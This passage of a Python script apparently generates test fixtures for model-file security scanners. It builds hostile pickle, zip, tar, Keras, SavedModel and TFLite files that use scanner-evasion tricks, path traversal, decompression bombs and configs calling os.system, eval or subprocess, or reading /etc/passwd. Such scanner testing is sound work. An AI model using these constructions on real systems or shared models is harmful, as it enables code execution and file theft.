for word in ["sin", "Interval"]:
    inner = code.replace(b"sin", word.encode())
    put("joblib/word-%s.joblib" % word, b"\x80\x04c" + {"sin": b"numpy\nsin\n", "Interval": b"pandas._libs.interval\nInterval\n"}[word] + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + text("subclass")
        + b"cnumpy\nndarray\n" + text("shape") + b"K" + bytes([len(inner)]) + b"\x85" + text("order") + text("C") + text("dtype") + elements + text("allow_mmap") + b"\x89ub" + inner + b"\x86.", "joblib's arrays")
script = [("a/code/__torch__.py", b"class Net(Module):\n  def forward(self, x):\n    torch.save(x, \"" + canary.encode() + b"\")\n    return x\n"), version]
pair = lambda change: [(change(name), data) for name, data in [("a/data.pkl", fine), ("a/constants.pkl", pickle.dumps((), 2))]]
distant = archive(pair(str) + script)
HIDDEN = {"script-in-upper-case": archive(pair(str.upper) + script), "script-with-a-distant-directory": distant[:-22] + bytes(1200000) + distant[-22:]}
for name, content in HIDDEN.items():
    # Offsets count from the archive's start, as they do for Python and PyTorch where the directory is at the end.
    put("polyglots/%s.pkl" % name, pickle.dumps({"a": 1.5}, 2) + content, "Polyglots")
for inner in ["config.json", "schema.json"]:
    put("polyglots/weights-and-%s.pt" % inner.split(".")[0], archive([("data.pkl", fine), ("version", b"3\n"), (inner, b"{}")]), "Polyglots")
for name, content in EXPORTS.items():
    put("export/%s.pt2" % name, content, "exported programs")
put("torch/tar.pt", tar.getvalue(), "torch")


def tar_polyglot(lead, rest, checksum):
    """A file that starts with a pickle, whose text reaches to the end of the tar archive that torch.load tries first."""
    members = b""
    for name, data in [(b"storages", evil), (b"tensors", b"x"), (b"pickle", b"x")]:
        info = tarfile.TarInfo(name.decode())
        info.size = len(data)
        members += info.tobuf(tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512)
    start = lead + b"\x80\x02T"
    start += struct.pack("<I", 512 - len(start) - 4 + len(members) + 1024)
    head = bytearray(start.ljust(100, b"\0") + b"0000644\0" + b"0000000\0" * 2 + b"%011o\0" % 0 * 2 + b" " * 8 + b"0").ljust(512, b"\0")
    head[148:156] = checksum(sum(head))
    return bytes(head) + members + bytes(1024) + b"." + rest


TARS = {
    "base-256": lambda n: b"\x80" + n.to_bytes(7, "big"), "prefix": lambda n: b"0o%o\0" % n, "sign": lambda n: b"+%o" % n,
    "underscore": lambda n: b"%o_%02o" % (n >> 6, n & 63), "tabs": lambda n: b"\t%o\r" % n,
}
for name, checksum in TARS.items():
    checksum = lambda n, make=checksum: make(n).ljust(8, b"\0")
    put("torch/tar-pickle-%s.pkl" % name, tar_polyglot(b"", b"", checksum), "torch", "a plain pickle, and a tar archive to torch.load")
    put("torch/tar-legacy-%s.pt" % name, tar_polyglot(MAGIC, fine + pickle.dumps([], 2), checksum), "torch", "a legacy file, and a tar archive to torch.load")

# 9. Archives that readers disagree on


def patched(data, changes):
    data = bytearray(data)
    for position, new in changes:
        data[position:position + len(new)] = new
    return bytes(data)


base = torch_evil
central = base.index(b"PK\x01\x02")
put("archives/local-name-differs.pt", patched(base, [(30, b"a/data.bin")]), "archives", "CVE-2025-1944")
put("archives/central-name-differs.pt", patched(base, [(central + 46, b"a/data.bin")]), "archives", "CVE-2025-1944")
put("archives/encrypted-flag.pt", patched(base, [(central + 8, b"\x01")]), "archives", "CVE-2025-1945")
put("archives/encrypted-flag-local.pt", patched(base, [(6, b"\x01")]), "archives", "CVE-2025-1945")
put("archives/strong-encryption-flag.pt", patched(base, [(central + 8, b"\x40")]), "archives", "CVE-2025-1945")
put("archives/patched-data-flag.pt", patched(base, [(central + 8, b"\x20")]), "archives", "CVE-2025-1945")
put("archives/masked-header-flag.pt", patched(base, [(central + 9, b"\x20")]), "archives", "CVE-2025-1945")
put("archives/wrong-crc.pt", patched(base, [(central + 16, b"\0\0\0\0"), (14, b"\0\0\0\0")]), "archives", "CVE-2025-10156")
put("archives/method-differs.pt", patched(base, [(central + 10, b"\x08")]), "archives")
put("archives/unknown-method.pt", patched(base, [(central + 10, b"\x63"), (8, b"\x63")]), "archives")
put("archives/size-differs.pt", patched(base, [(central + 20, b"\x01\0\0\0")]), "archives")
put("archives/prefix-pickle.pt", system() + torch_evil, "archives", "a pickle and an archive in one")
put("archives/prefix-text.pt", b"#!/bin/sh\nexit\n" + torch_evil, "archives")
put("archives/prefix-png.pt", b"\x89PNG\r\n\x1a\n" + b"\0" * 40 + torch_evil, "archives")
put("archives/suffix.pt", torch_evil + b"\0" * 64, "archives")
put("archives/comment-end.pt", torch_evil[:-2] + struct.pack("<H", 22) + b"PK\x05\x06" + b"\0" * 18, "archives")
put("archives/two-archives.pt", archive([("a/data.pkl", fine), version]) + torch_evil, "archives")
put("archives/no-directory.pt", torch_evil[:central], "archives")
put("archives/traversal.pt", archive([("a/data.pkl", fine), version, ("a/../../../../" + canary, b"x")]), "archives")
put("archives/absolute.pt", archive([("a/data.pkl", fine), version, (canary, b"x")]), "archives")
put("archives/backslash.pt", archive([("a/data.pkl", fine), version, ("a\\..\\..\\x", b"x")]), "archives")
put("archives/nested.zip", archive([("model.pt", torch_evil)]), "archives")


def zip64_elsewhere():
    """Two archives in one: the directory before the zip64 locator is harmless, the one that the locator states is not."""
    hidden = archive([("a/data.pkl", evil), version])
    inner = hidden.index(b"PK\x01\x02")
    plain = archive([("a/data.pkl", fine), version])
    place = plain.index(b"PK\x01\x02") + 30 + len("a/data/0")
    end = bytearray(hidden[inner:-22])
    for at in (0, end.index(b"PK\x01\x02", 4)):
        end[at + 42:at + 46] = struct.pack("<I", struct.unpack_from("<I", end, at + 42)[0] + place)
    record = lambda count, size, start: struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, start)
    blob = hidden[:inner] + bytes(end) + record(2, len(end), place + inner)
    outer = archive([("a/data.pkl", fine), version, ("a/data/0", blob)])
    start, size = struct.unpack("<II", outer[-22:][12:20])[::-1]
    locator = struct.pack("<IIQI", 0x07064B50, 0, place + inner + len(end), 1)
    return outer[:-22] + record(3, size, start) + locator + outer[-22:]


put("archives/zip64-elsewhere.pt", zip64_elsewhere(), "archives", "miniz follows the locator, zipfile does not")


def uncounted(members, counted):
    """An archive whose end counts fewer members than its directory has: Python's zipfile reads them all.

    What is not counted lies within the last member that is.
    """
    data, directory = b"", b""
    def header(name, content, place):
        tail = struct.pack("<HHIIIH", 0, 33, zlib.crc32(content), len(content), len(content), len(name))
        central = b"PK\1\2" + struct.pack("<HHHH", 20, 20, 0, 0) + tail + struct.pack("<HHHHII", 0, 0, 0, 0, 0, place)
        return b"PK\3\4" + struct.pack("<HHH", 20, 0, 0) + tail + b"\0\0" + name, central + name
    local = [(name, content) for name, content in members[counted:]]
    inner = b"".join(header(name.encode(), content, 0)[0] + content for name, content in local)
    for index, (name, content) in enumerate(members[:counted]):
        content = content(inner) if index == counted - 1 else content
        start, entry = header(name.encode(), content, len(data))
        data, directory = data + start + content, directory + entry
    place = data.index(inner)
    for name, content in local:
        start, entry = header(name.encode(), content, place)
        place, directory = place + len(start) + len(content), directory + entry
    return data + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, counted, counted, len(directory), len(data), 0)


put("archives/uncounted.npz", uncounted([
    ("a.npy", lambda inner: npy(inner, "(%d,)" % len(inner), "'|u1'")), ("b.npy", npy(system()))], 1), "archives")
put("archives/uncounted.keras", uncounted([
    ("metadata.json", b'{"keras_version": "3.4.1"}'), ("config.json", b'{"module": "keras", "class_name": "Sequential", "config": {"layers": []}}'),
    ("notes.txt", lambda inner: inner), ("config.json", b'{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l"}}')], 3), "archives")
# Arrays of objects in archives of others', where numpy.load finds them, and pickles in ones at a file's end, where pandas does.
for name, members in {"keras": [("config.json", b"{}"), ("metadata.json", b"{}")], "skops": [("schema.json", b"{}")],
                      "torch": [("a/data.pkl", fine), version]}.items():
    put("archives/objects-in-%s.npz" % name, archive([*members, ("a/x.npy", npy(system()))]), "archives")
    put("archives/objects-in-%s-deflated.npz" % name, archive([*members, ("a/x", npy(system()))], zipfile.ZIP_DEFLATED), "archives")
lone = archive([("model.pkl", system())])
put("archives/lone-pickle-behind-a-pickle.zip", benign + lone, "archives")
put("archives/lone-pickle-behind-trees.zip", b"tree\nversion=v4\nnum_class=1\n\nend of trees\n" + lone, "archives")
put("archives/bomb.joblib", zlib.compress(bytes(1 << 20) * 64, 9), "archives", "64 MiB of zeros")
put("archives/bomb-pickle.joblib", gzip.compress(b"\x80\x04" + b"(" * (32 << 20), mtime=0), "archives", "32 Mi marks")
put("archives/pickle.zip", archive([("model.pkl", system())]), "archives")


def tarred(build):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as out:
        build(out)
    return file.getvalue()


def member(name, data=b"", kind=tarfile.REGTYPE, link=""):
    info = tarfile.TarInfo(name)
    info.size, info.type, info.linkname = len(data), kind, link
    return info, io.BytesIO(data)


put("archives/traversal.tar", tarred(lambda t: t.addfile(*member("../../" + os.path.basename(canary), b"x"))), "archives")
put("archives/link.tar", tarred(lambda t: [t.addfile(*member("l", kind=tarfile.SYMTYPE, link="/etc")), t.addfile(*member("l/x", b"x"))]), "archives")
put("archives/hard-link.tar", tarred(lambda t: t.addfile(*member("l", kind=tarfile.LNKTYPE, link="../../etc/passwd"))), "archives")
put("archives/model.tar.gz", gzip.compress(tarred(lambda t: t.addfile(*member("model.pkl", system()))), mtime=0), "archives")
put("archives/weights.nemo", tarred(lambda t: t.addfile(*member("./model_weights.ckpt", torch_evil))), "archives")

# 10. Wrong endings: content decides

for ending in "txt json onnx safetensors h5 npy csv png md bin dat model ckpt".split():
    put("endings/pickle." + ending, system(), "wrong endings", "CVE-2025-1889, CVE-2025-10155")
    put("endings/protocol-0." + ending, OPCODES["protocol-0-global"], "wrong endings", "CVE-2025-1889, CVE-2025-10155")
put("endings/torch.pkl", torch_evil, "wrong endings", "CVE-2025-10155")
put("endings/torch.onnx", torch_evil, "wrong endings")
put("endings/no-ending", system(), "wrong endings")
put("endings/legacy-torch.safetensors", MAGIC + INFO + evil + pickle.dumps([], 2), "wrong endings")

# 11. Keras


def unpacked(data):
    return zlib.decompress(base64.b64decode(data))


# HDF5 files that h5py wrote: one with an empty group "layers", one with the attributes of a Keras model, its configuration
# 1024 bytes of "@".
EMPTY_H5 = unpacked(
    "eNrr9HBx4+WS4mIAAQ4OBhYGAQZk8B8KNNhR+TD5BCjNCKU7oPQKJpg4I1hOAiouCDUfXV1IkKsrSPV/NACz5wErhOZgGAUjEXi4OgaA6AgoH5"
    "ZKTzChqstJrEwtKkakRw8K7cWVfj2YIfwMVuT0y4Az/Y6C0fSLnH5h5VgHK3p6g4AAKtkb7OfvAkrBMPsUmFHtQU/HowA7AABF8UKc")
MODEL_H5 = unpacked(
    "eNrr9HBx4+WS4mIAAQ4OBhYGAQZk8B8KHnCj8mHyCVCaEUp3QOkVTDBxVrCcBFRcAGq+BjuEv4MFQocEubqCVP9HAzB7HrBCaA6GUTASgYerYw"
    "CIjoDyYenpBBOqutz8lNSc+PLUzPSMkmKkdOlApr2MYIiwTxCafj2YIfwMVuT0y4Az/Y6C0fSLnH5h5VgHK3p6g4AAKtkb7OfvAkrBMPsUmFHt"
    "QU/HowA7gOV79PqNh8EAGp58wDDmYMhOLUosji9LLSrOzM8DigsDA5oNKbyN9AxN9QyQ9XGAYVJicnZqXgpYPReS+pLUvOL8orSc/HKYfRosEH"
    "28YH2Q8i45Py8tM50Bah+wEkeUe6NgFIyCEQsAGlFbSg==")


def keras(layers, **more):
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": layers, **more}, "registered_name": None}
    return archive([("config.json", json.dumps(config).encode()), ("metadata.json", b'{"keras_version": "3.4.1"}'), ("model.weights.h5", EMPTY_H5)])


def layer(name, config, module="keras.layers", **more):
    return dict({"module": module, "class_name": name, "config": config, "registered_name": None}, **more)


bytecode = {"class_name": "__lambda__", "config": {"code": "4wAAAA==", "defaults": None, "closure": None}}
lambda_layer = layer("Lambda", {"name": "l", "function": bytecode})
function = lambda module, name: {"module": module, "class_name": "function", "config": name, "registered_name": name}
KERAS = {
    "lambda": [lambda_layer],
    "lambda-nested": [layer("Sequential", {"name": "inner", "layers": [lambda_layer]}, "keras")],
    "lambda-in-wrapper": [layer("TimeDistributed", {"name": "t", "layer": lambda_layer})],
    "lambda-in-list": [layer("Dense", {"name": "d", "extra": [[lambda_layer]]})],
    "function-os-system": [layer("Lambda", {"name": "l", "function": function("os", "system"), "arguments": {"command": TOUCH}})],
    "function-eval": [layer("Lambda", {"name": "l", "function": function("builtins", "eval"), "arguments": {"source": PYTHON}})],
    "activation-os-system": [layer("Dense", {"name": "d", "units": 1, "activation": function("os", "system")})],
    "activation-exec": [layer("Dense", {"name": "d", "units": 1, "activation": function("builtins", "exec")})],
    "activation-print": [layer("Dense", {"name": "d", "units": 1, "activation": function("builtins", "print")})],
    "module-subprocess": [layer("Popen", {"args": TOUCH, "shell": True}, "subprocess")],
    "module-pdb": [layer("Pdb", {}, "pdb")],
    "module-importlib": [layer("import_module", {"name": "os"}, "importlib")],
    "get-file": [layer("get_file", {"fname": canary, "origin": "file:///etc/hostname"}, "keras.utils")],
    "enable-unsafe": [layer("function", {"x": 1}, "keras.config"), {"module": "keras.config", "class_name": "function",
                      "config": "enable_unsafe_deserialization", "registered_name": "enable_unsafe_deserialization"}],
    "load-model": [function("keras.models", "load_model")],
    "saving-lib": [function("keras.src.saving.saving_lib", "load_model")],
    "torch-wrapper": [layer("TorchModuleWrapper", {"name": "t", "module": "gAQu"})],
    "saved-model-layer": [layer("TFSMLayer", {"name": "t", "filepath": "/tmp/other", "call_endpoint": "serve"})],
    "vocabulary": [layer("StringLookup", {"name": "v", "vocabulary": "/etc/hostname"})],
    "own-class": [layer("Backdoor", {"name": "b"}, "backdoor.layers")],
    "through-keras": [function("keras.src.utils.file_utils.os", "system")],
    "through-layers": [function("keras.layers.os", "system")],
    "through-activations": [function("keras.src.activations.activations.sys", "exit")],
}
for name, layers in KERAS.items():
    put("keras/%s.keras" % name, keras(layers), "Keras", "CVE-2025-1550, -8747, -9905, -9906, -12058" if "os" in name else "")


def keras_h5(layers):
    config = json.dumps({"class_name": "Sequential", "config": {"name": "m", "layers": layers}}).encode()
    return MODEL_H5.replace(b"@" * 1024, config.ljust(1024))


for name in ("lambda", "lambda-nested", "function-os-system", "activation-exec", "module-subprocess", "own-class"):
    put("keras/%s.h5" % name, keras_h5(KERAS[name]), "Keras")
    put("keras/%s.hdf5.pkl" % name, keras_h5(KERAS[name]), "Keras")
# The same address or number twice, of which HDF5's library takes the other: a text in its heap, and a header in the image of a
# cache that h5py's library wrote. The first of each is a model without layers, the second one with a Lambda.
put("keras/heap-twice.h5", unpacked(
    "eNrt1s1Kw0AQAOBJKhpDI6UoqKeQs5QqehFaKRbtoVDQo8iyJhsJbhJMmoqUPEBuHn0NTz6e7uaHaqQHQRB0PkjIzu5MQpswm42GZ4a+qzc0DSpvJd"
    "guxt0yPsiytcloeKHCq9r+uLCiq6AAbLVh5etc8wSgARuwKSfvWERjMmNR7IUB7CgKtEQ5eSj5nTRQxXm1uMzJeLMvSxhFCT90GCd2GLje7dIK68qi"
    "ghy/JE99QAghhP6989PJOO+YrUWfhar3Cged/aNOt+ieUHVUYW7ZnMYxCajPrGPTumT3CQumHuXWnmkVbVnE51a1wJdxTh9FzxfDq+s0Nf8EqHYXyo"
    "/+PvX8MfVvHLokN6/pJoE9FdupfOZzMiE8TyekVsAWmyi54PBhIPR6ctphLk34VD5FkHAuE3gYJxErA6nwjX+v9r49G/jNIYQQQgghhNBveAdxY7lb"), "Keras")
put("keras/cache-image.h5", unpacked(
    "eNrt201LAkEYB/BxtRDRNHvvZHsqCNGoSyAhShkUQl2KiGXSNcRxl1y3KPHWpUMfpS9RdO/Yd6hO0aGTzayuaxtBRFTC/wfr6DzzjMPCMHt49iKXXQ"
    "0FpgNev590zbYbmmm3iU736O5tK5/LbkkzuYlQpfd6lqSoGNFyCUjEQ8hYlPg+xoIrhHjJEBkVwYpao4ZyrNaMsq6RKY+HRPh04vJYf+0nEv8cbH+1"
    "iP7gmcSnCPEuPkVVL6pMKehaqXxIRnh4h6eIrIZcYNQwFI1WVXk5Jm+rR6aq1cuUyfMxuZ3A+xuyPaAq+hk95avhP/f2m80YgFv9Kn1NAAD61Vomv2"
    "EdsRHnWCX2UcstxJNL8YQz/j6MewYAAAAAAAAAAAAAAAAAAPDfWPV8MXc93/jkMDnvFv7Rkc7g18zTHW4ZAABA39vMZtadE16Uyw947RpA0dqlf2Fv"
    "z/PCz9T//0rxvjt/g1YPivSTXGvOkqkV6mVdsyLvkxWFWemK4pqgwJcvBiyepLlUSoSLaomarC5WoZmMiQSmG2ZN7XQ0Obxa8Fe++/bJpLM1Wg/hR1"
    "93s0g9UbuY9kvFtUlnM6K4FgAAAAAAAKD/XN7MvbwBYZ5Q7A=="), "Keras")
# Keras 2 makes layers of TensorFlow's functions, by their names.
for name, kind, config in (("write-file", "TFOpLambda", {"function": "io.write_file"}), ("python", "TFOpLambda", {"function": "numpy_function"}),
                           ("download", "TFOpLambda", {"function": "keras.utils.get_file"}), ("node", "TensorFlowOpLayer", {"node_def": {"op": "WriteFile"}}),
                           ("method", "ClassMethod", {"cls_symbol": "io.TFRecordWriter", "method_name": "write"})):
    put("keras/tensorflow-%s.h5" % name, keras_h5([{"class_name": kind, "config": dict(config, name="l")}]), "Keras")
put("keras/build-config.keras", keras([dict(layer("Dense", {"name": "d"}), build_config=lambda_layer)]), "Keras")
put("keras/compile-config.keras", keras([], compile_config={"loss": function("os", "system")}), "Keras")
put("keras/two-configs.keras", archive([("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": []}}).encode()),
    ("metadata.json", b'{"keras_version": "3.4.1"}'), ("model.weights.h5", EMPTY_H5),
    ("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [lambda_layer]}}).encode())]), "Keras")
put("keras/traversal.keras", archive([("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": []}}).encode()),
    ("metadata.json", b'{"keras_version": "3.4.1"}'), ("model.weights.h5", EMPTY_H5), ("../../" + os.path.basename(canary), b"x")]), "Keras")

# modelscan's pull request 262: weights in NumPy's format, which may be a pickle.
empty = json.dumps({"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": []}, "registered_name": None}).encode()
for name, weights in {"pickle": system(), "object": archive([("__root__.npy", npy(system()))])}.items():
    put("keras/weights-%s.keras" % name, archive([("config.json", empty), ("metadata.json", b'{"keras_version": "3.4.1"}'), ("model.weights.npz", weights)]),
        "Keras", "modelscan 262")

# 12. TensorFlow graphs


def varint(n):
    out = b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def field(number, data):
    return varint(number << 3 | 2) + varint(len(data)) + data if isinstance(data, bytes) else varint(number << 3) + varint(data)


def saved_model(operations, in_function=False):
    nodes = b"".join(field(1, field(1, b"n%d" % i) + field(2, op.encode())) for i, op in enumerate(operations))
    if in_function:
        body = field(1, field(1, b"f")) + b"".join(field(3, field(1, b"n") + field(2, op.encode())) for op in operations)
        nodes = field(1, field(1, b"x") + field(2, b"NoOp")) + field(2, field(1, body))
    graph = field(1, field(4, b"serve") + field(5, b"2.15.0")) + field(2, nodes)
    return field(1, 1) + field(2, graph)


for op in "ReadFile WriteFile PyFunc PyFuncStateless EagerPyFunc MatchingFiles WholeFileReaderV2 TFRecordDataset SaveDatasetV2 \
        TextLineDataset FixedLengthRecordDatasetV2 DebugIdentityV3 CreateSummaryFileWriter RegisterDatasetV2 ImmutableConst \
        Skipgram FixedUnigramCandidateSampler GenerateVocabRemapping DumpTensor CalibrationStatisticsSaver DatasetFromGraph \
        XlaCustomCallV2 TRTEngineOp LoadAndRemapMatrix Backdoor _XlaRun Addons>Backdoor".split():
    put("savedmodel/" + op.replace(">", "-"), {"saved_model.pb": saved_model(["Placeholder", op])}, "SavedModel graphs")
for op in ("ReadFile", "WriteFile", "EagerPyFunc"):
    put("savedmodel/in-function-" + op, {"saved_model.pb": saved_model([op], in_function=True)}, "SavedModel graphs")


def graph_node(name, operation, *inputs, **attributes):
    return field(1, field(1, name.encode()) + field(2, operation.encode()) + b"".join(field(3, each.encode()) for each in inputs)
                 + b"".join(field(5, field(1, key.encode()) + field(2, data)) for key, data in attributes.items()))


def constant(name, content):
    return graph_node(name, "Const", value=field(8, field(1, 7) + field(2, b"") + field(8, content.encode())))


class Library(bytes):
    """A part of a graph's library of functions."""


def graph_function(name, arguments, *nodes, **attributes):
    signature = field(1, name.encode()) + b"".join(
        field(2, each if isinstance(each, bytes) else field(1, each.encode()) + field(3, 7)) for each in arguments)
    return Library(field(1, field(1, signature) + b"".join(b"\x1a" + each[1:] for each in nodes)
                         + b"".join(field(5, field(1, key.encode()) + field(2, data)) for key, data in attributes.items())))


def tensor(name):
    return field(1, name.encode() + b":0") + field(2, 7)


def meta_graph(*parts, saver="", output="", assets=(), objects=b"", main="", more=b""):
    """A graph with a signature that takes `output`, with assets by their tensors, and with what a load runs."""
    nodes = [each for each in parts if not isinstance(each, Library)]
    library = b"".join(each for each in parts if isinstance(each, Library))
    nodes.append(field(2, library) if library else b"")
    output = tensor(output) if isinstance(output, str) and output else output
    entry = field(5, field(1, b"serving_default") + field(2, field(2, field(1, b"y") + field(2, output)))) if output else b""
    begin = field(5, field(1, b"__saved_model_init_op") + field(2, field(2, field(1, b"i") + field(2, tensor(main))))) if main else b""
    return field(1, 1) + field(2, field(1, field(4, b"serve") + field(5, b"2.15.0")) + field(2, b"".join(nodes))
        + (field(3, field(1, saver.encode() + b":0")) if saver else b"") + entry + begin
        + b"".join(field(6, field(1, tensor(name)) + field(2, path.encode())) for name, path in assets) + (field(7, objects) if objects else b"")
        + more)


table = graph_node("table", "HashTableV2")
calling = lambda function: field(10, field(1, function.encode()))
from_file = lambda path: graph_node("init", "InitializeTableFromTextFileV2", "table", path)
initialise = graph_function("initialise", ["path", "table"], from_file("path"))
variable = lambda name: graph_node(name, "VarHandleOp", shared_name=field(2, b"v"))
GRAPHS = {
    "table-of-a-constant": meta_graph(table, constant("path", "/etc/passwd"), from_file("path"), main="init"),
    "table-of-a-relative-path": meta_graph(table, constant("path", "../../secret"), from_file("path"), main="init"),
    "table-of-a-computed-path": meta_graph(table, constant("path", "/etc"), graph_node("join", "StringJoin", "path", "path"), from_file("join"), main="init"),
    "table-behind-a-function": meta_graph(table, constant("path", "/etc/passwd"), graph_node("same", "Identity", "path"),
        graph_node("init", "StatefulPartitionedCall", "same", "table", f=calling("initialise")), initialise, main="init"),
    "table-of-two-calls": meta_graph(table, constant("path", "/etc/passwd"), constant("asset", ""),
        graph_node("a", "StatefulPartitionedCall", "asset", "table", f=calling("initialise")),
        graph_node("b", "StatefulPartitionedCall", "path", "table", f=calling("initialise")), initialise, assets=[("asset", "words.txt")], main="a"),
    "table-of-a-variable": meta_graph(table, constant("path", "/etc/passwd"), constant("asset", ""), variable("v"),
        graph_node("a", "AssignVariableOp", "v", "asset"), graph_node("b", "AssignVariableOp", "v", "path"), graph_node("read", "ReadVariableOp", "v", "^b"),
        graph_node("init", "InitializeTableFromTextFileV2", "table", "read"), assets=[("asset", "words.txt")], main="init"),
    "table-of-a-variable-by-another-name": meta_graph(table, constant("path", "/etc/passwd"), constant("asset", ""), variable("v"), variable("w"),
        graph_node("a", "AssignVariableOp", "v", "asset"), graph_node("b", "AssignVariableOp", "w", "path"), graph_node("read", "ReadVariableOp", "v", "^b"),
        graph_node("init", "InitializeTableFromTextFileV2", "table", "read"), assets=[("asset", "words.txt")], main="init"),
    "table-of-a-loop": meta_graph(table, constant("asset", ""), graph_node("init", "While", "asset", "table", cond=calling("c"), body=calling("initialise")), initialise,
        assets=[("asset", "words.txt")], main="init"),
    "table-bound-by-objects": meta_graph(table, initialise, objects=field(1, field(9, field(1, b"c"))) + field(1, field(10, b""))
        + field(2, field(1, b"initialise") + field(2, field(2, b"\0\1")))),
    "asset-leads-out": meta_graph(table, constant("asset", ""), from_file("asset"), assets=[("asset", "../../../../etc/passwd")], main="init"),
    "asset-is-absolute": meta_graph(table, constant("asset", ""), from_file("asset"), assets=[("asset", "/etc/passwd")], main="init"),
    "asset-read-while-serving": meta_graph(constant("asset", "/etc/passwd"), graph_node("read", "ReadFile", "asset"), assets=[("asset", "words.txt")], output="read"),
    "restores-another-file": meta_graph(constant("prefix", "/tmp/other"), graph_node("restore", "RestoreV2", "prefix", "prefix", "prefix"), output="restore"),
    "restores-while-serving": meta_graph(graph_node("given", "PlaceholderWithDefault", "prefix"), constant("prefix", "/tmp/other"),
        graph_node("restore", "RestoreV2", "given", "prefix", "prefix"), saver="given", output="restore"),
    "saves-while-it-loads": meta_graph(constant("prefix", canary), graph_node("save", "SaveV2", "prefix", "prefix", "prefix", "prefix"), main="save"),
    "saves-from-an-object": meta_graph(graph_function("f", [], constant("prefix", canary), graph_node("save", "SaveV2", "prefix", "prefix", "prefix", "prefix")),
        objects=field(1, field(6, field(1, b"f"))) + field(2, field(1, b"f") + field(2, b""))),
    "caches-in-a-file": meta_graph(graph_node("data", "RangeDataset"), constant("path", canary), graph_node("cache", "CacheDatasetV2", "data", "path", "path"), output="cache"),
    "prints-to-a-file": meta_graph(graph_node("print", "PrintV2", "x", output_stream=field(2, b"file://" + canary.encode())), output="print"),
}
# What a parser makes of a message, and what runs without being called in plain sight.
packed = lambda path: graph_node("path", "Const", value=field(8, field(1, 7) + field(2, b"") + field(4, varint(len(path)) + path)))
save = graph_node("save", "SaveV2", "prefix", "prefix", "prefix", "prefix")
saving = lambda name, **attributes: graph_function(name, ["x"], constant("prefix", canary), save, graph_node("same", "Identity", "x", "^save"), **attributes)
caller = lambda function: graph_node("y", "StatefulPartitionedCall", "x", f=function)
placeholder = graph_node("x", "Placeholder")
taking = graph_function("taking", ["x"], graph_node("call", "StatefulPartitionedCall", "x", f=field(9, b"given")))
like = {"api_implements": field(2, b"z")}
sparse = lambda name: field(2, 7) + field(4, b"".join(field(number, name + b":0") for number in (1, 2, 3)))
bindings = field(1, field(6, field(1, b"f"))) + field(2, field(1, b"f") + field(2, b""))
GRAPHS.update({
    "reads-a-packed-text": meta_graph(packed(b"/etc/passwd"), graph_node("read", "ReadFile", "path"), output="read"),
    "reads-a-merged-text": meta_graph(graph_node("path", "Const", value=field(8, field(1, 7) + field(8, b"/etc/passwd")) + field(8, field(1, 7))),
        graph_node("read", "ReadFile", "path"), output="read"),
    "reads-an-empty-text": meta_graph(constant("path", ""), graph_node("read", "ReadFile", "path"), output="read"),
    "reads-behind-a-list": meta_graph(table, constant("path", "/etc/passwd"), constant("asset", ""),
        graph_node("y", "reading", "asset", "asset", "path", "table", N=field(3, 2)),
        graph_function("reading", [field(1, b"list") + field(3, 7) + field(5, b"N"), "path", "table"], from_file("path")),
        assets=[("asset", "words.txt")], main="y"),
    "prints-where-a-caller-says": meta_graph(placeholder, graph_node("y", "f", "x", out=field(2, b"file://" + canary.encode())),
        graph_function("f", ["x"], graph_node("print", "PrintV2", "x", output_stream=field(9, b"out"))), output="y"),
    "saves-for-a-sparse-output": meta_graph(constant("prefix", canary), save, graph_node("v", "Identity", "prefix", "^save"), output=sparse(b"v")),
    "saves-for-a-composite-output": meta_graph(constant("prefix", canary), save, graph_node("v", "Identity", "prefix", "^save"),
        output=field(5, field(2, tensor("prefix")) + field(2, tensor("v")))),
    "saves-from-objects-in-two-parts": meta_graph(saving("f"), objects=bindings, more=field(7, b"")),
    "saves-in-a-given-function": meta_graph(placeholder, taking, saving("g"),
        caller(field(10, field(1, b"taking") + field(2, field(1, b"given") + field(2, calling("g"))))), output="y"),
    "saves-in-a-gradient": meta_graph(placeholder, graph_function("f", ["x"], graph_node("same", "Identity", "x")), saving("g"),
        Library(field(2, field(1, b"f") + field(2, b"g"))), graph_node("y", "SymbolicGradient", "x", "x", f=calling("f")), output="y"),
    "saves-in-what-does-the-same": meta_graph(placeholder, graph_function("f", ["x"], graph_node("same", "Identity", "x"), **like), saving("g", **like),
        caller(calling("f")), output="y"),
    "names-a-function-like-an-operator": meta_graph(table, constant("asset", ""), graph_node("other", "Identity", "asset"), from_file("other"),
        graph_function("Identity", ["x"], constant("path", "/etc/passwd")), assets=[("asset", "words.txt")], main="init"),
    "restores-in-a-function": meta_graph(graph_function("f", [], constant("prefix", "/tmp/other"), graph_node("restore", "RestoreV2", "prefix", "prefix", "prefix"))),
    "graph-in-two-parts": meta_graph(placeholder, more=field(2, constant("prefix", canary) + save), output="save"),
})
for name, content in GRAPHS.items():
    put("savedmodel/" + name, {"saved_model.pb": content}, "SavedModel graphs")


def lite(*names):
    """A TensorFlow Lite model (FlatBuffers) that is no more than its table of operators."""
    layout = struct.pack("<4H", 8, 8, 0, 4)  # of a table with its second field only
    head = struct.pack("<I4s", 16, b"TFL3") + layout + struct.pack("<iII", 8, 4, len(names))
    start = len(head) + 4 * len(names)
    codes, texts = b"", b""
    for index, name in enumerate(names):
        code = start + 8 + 8 * index
        place = start + 8 + 8 * len(names) + len(texts)
        head += struct.pack("<I", code - len(head))
        codes += struct.pack("<iI", code - start, place - code - 4)
        texts += struct.pack("<I", len(name)) + name.encode() + bytes(4 - len(name) % 4)
    return head + layout + codes + texts


for op in ("WriteFile", "ReadFile", "EagerPyFunc", "Backdoor"):
    put("tflite/%s.tflite" % op, lite("MyOwn", "FlexAddV2", "Flex" + op), "TensorFlow Lite")
def built(code, options, inputs=0, name=b""):
    """A TensorFlow Lite model of one operator with options of its own, all inputs of which are one tensor."""
    out = bytearray(b"\0\0\0\0TFL3")

